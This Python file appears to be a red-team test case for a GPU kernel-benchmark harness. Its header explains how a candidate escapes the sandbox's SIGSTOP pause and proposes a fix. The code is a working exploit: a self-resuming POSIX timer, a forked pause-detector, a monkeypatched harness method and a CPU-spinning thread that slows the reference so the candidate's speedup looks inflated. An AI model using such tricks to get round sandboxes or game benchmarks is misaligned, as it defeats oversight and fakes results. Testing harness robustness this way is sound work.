# expect: implausible (ran while it was paused) or correct (speedup 0-1.15) — a POSIX timer sends its own process SIGCONT every 4 ms through the controller's SIGSTOP
# task: kernelbench/relu_mlp.py
# Closed in the thirtieth session (not yet run on a GPU): a worker that runs a candidate's
# host code has its pauses watched (Sandbox.pause: its threads counted stopped, with their
# context switches, and counted again before SIGCONT); one that ran reads implausible.
# Where its timer never wakes it (a timer can stick, its SIGCONT flushed by a SIGSTOP), it
# gains nothing and reads correct near 1x.
# Written by a red-team review of the trust boundary (reading sandbox.py and schedule.py). The
# pause itself was run on a CPU with kernelwright's own confine() and Sandbox.pause(): a
# confined worker (PID 1 of its namespace) with this timer ran on at full rate through
# pause(), state "S" not "T"; without it, it stopped. Not run on a GPU.
#
# schedule._pair_of_batches times each side "with the other paused" and looks at the GPU
# "inside the very pause its rounds run in"; Sandbox.pause() is signal_tree(SIGSTOP)
# (sandbox.py:326-348), one SIGSTOP per process, never checked afterwards. A stopped process
# is resumed by any SIGCONT, and a POSIX timer (timer_create, SIGEV_SIGNAL, SIGCONT) is
# delivered by the kernel to a stopped process: with a handler installed (a SIG_DFL SIGCONT
# is parked by 6.x kernels), every pause ends within one period. Nothing the seccomp filter
# (confine.stay_put_filter) refuses is used.
#
# The process is then awake while the reference's batch runs. Its own batch is untouched: a
# helper process (its own timer too) notices each stop as a gap in its clock, and a thread of
# the main one (started after Sandbox.pin, so on the very CPU the reference's timing thread
# is pinned to) wakes every 50 us and spins 50 us from 3 ms after a stop (the reference's
# look has passed) until the next message to this worker or 150 ms. On a 6.18 kernel such a
# neighbour slowed a 16-call round of ~0.6 ms to ~1.15 ms (x1.9, sim/contention2.py), where
# the forward is host-bound (relu_mlp's is). The reference's samples are trusted and slower;
# the candidate's are honest; the clock bound rises with the reference's harness time: an
# honest forward reads about 1.5 to 1.9x. A spinning GPU stream in place of the CPU thread
# (time-sliced against the reference's context) would read far more.
#
# Fix (principled): a paused worker must be unable to run at all, whatever it arranged
# before: freeze its whole cgroup (cgroup v2 cgroup.freeze, or the v1 freezer), which no
# signal, timer or fork undoes, and confirm it (cgroup.events frozen 1) before the
# reference's look; or, equivalently, time the reference only once the candidate's
# processes are gone or checkpointed. A SIGSTOP walk over /proc is also outrun by a
# fork-hopping child (1 to 2 pauses in 10 escaped it in the same CPU run), so blocking
# timer_create alone is no fix.
import ctypes
import mmap
import os
import signal
import struct
import sys
import threading
import time

import torch
import torch.nn as nn

PERIOD_NS = 4_000_000  # the longest a pause can hold this process
STOP_GAP_S = 0.0005  # a gap in a 200 us sleep loop this long: the process was stopped
QUIET_S = 0.003  # after a stop, first let the reference's look at the GPU pass
MOST_S = 0.150  # then contend for about one reference batch at most

_libc = ctypes.CDLL(None, use_errno=True)


class _SigEvent(ctypes.Structure):
    _fields_ = (("value", ctypes.c_void_p), ("signo", ctypes.c_int), ("notify", ctypes.c_int),
                ("pad", ctypes.c_int * 12))


class _TimeSpec(ctypes.Structure):
    _fields_ = (("sec", ctypes.c_long), ("nsec", ctypes.c_long))


class _ITimerSpec(ctypes.Structure):
    _fields_ = (("interval", _TimeSpec), ("value", _TimeSpec))


def _resume_myself_every(period_ns: int) -> None:
    """SIGCONT to this process every period, from the kernel (main thread: the handler)."""
    signal.pthread_sigmask(signal.SIG_UNBLOCK, {signal.SIGCONT})  # whatever it inherited
    signal.signal(signal.SIGCONT, lambda *_: None)
    event, timer = _SigEvent(None, int(signal.SIGCONT), 0), ctypes.c_void_p()
    if _libc.timer_create(1, ctypes.byref(event), ctypes.byref(timer)) == 0:  # CLOCK_MONOTONIC
        every = _TimeSpec(0, period_ns)
        _libc.timer_settime(timer, 0, ctypes.byref(_ITimerSpec(every, every)), None)


# Shared with the helper: [0] when it last saw this sandbox stopped (CLOCK_MONOTONIC seconds)
_shared = mmap.mmap(-1, 16)


def _detector() -> None:
    """The helper process: single-threaded, no GIL to wait for, so a gap is a stop."""
    _resume_myself_every(PERIOD_NS)
    last = time.monotonic()
    while True:
        time.sleep(0.0002)
        now = time.monotonic()
        if now - last > STOP_GAP_S:
            _shared[0:8] = struct.pack("d", now)
        last = now


if True:  # in every process that imports it (the sanitizer's child too: harmless)
    _resume_myself_every(PERIOD_NS)
    if os.fork() == 0:  # before Sandbox.pin: the helper ends up on the second timing CPU
        try:
            _detector()
        finally:
            os._exit(0)

_state = {"message_at": 0.0, "spinner": None}


def _record_messages() -> None:
    """Every command the harness reads: this worker's own batch (or its look) has begun."""
    serving = sys.modules.get("kernelwright.tools.serving")
    if serving is None:
        return
    read = serving.Worker.command

    def command(self):
        cmd = read(self)
        _state["message_at"] = time.monotonic()
        return cmd

    serving.Worker.command = command


_record_messages()


def _contend() -> None:
    """On the timed CPU (inherited from the main thread, which Sandbox.pin put there)."""
    while True:
        stopped_at = struct.unpack("d", _shared[0:8])[0]
        since = time.monotonic() - stopped_at
        if stopped_at > _state["message_at"] and QUIET_S < since < MOST_S:
            time.sleep(0.00005)  # woken, it preempts the reference's thread (wakeup preemption)
            end = time.perf_counter() + 0.00005
            while time.perf_counter() < end:
                pass
        else:
            time.sleep(0.002)


class ModelNew(nn.Module):
    def __init__(self, in_features, out_features):
        super().__init__()
        self.linear = nn.Linear(in_features, out_features)

    def forward(self, x):
        if _state["spinner"] is None and len(os.sched_getaffinity(0)) == 1:  # pinned: timed
            _state["spinner"] = threading.Thread(target=_contend, daemon=True)
            _state["spinner"].start()
        return torch.relu(self.linear(x))
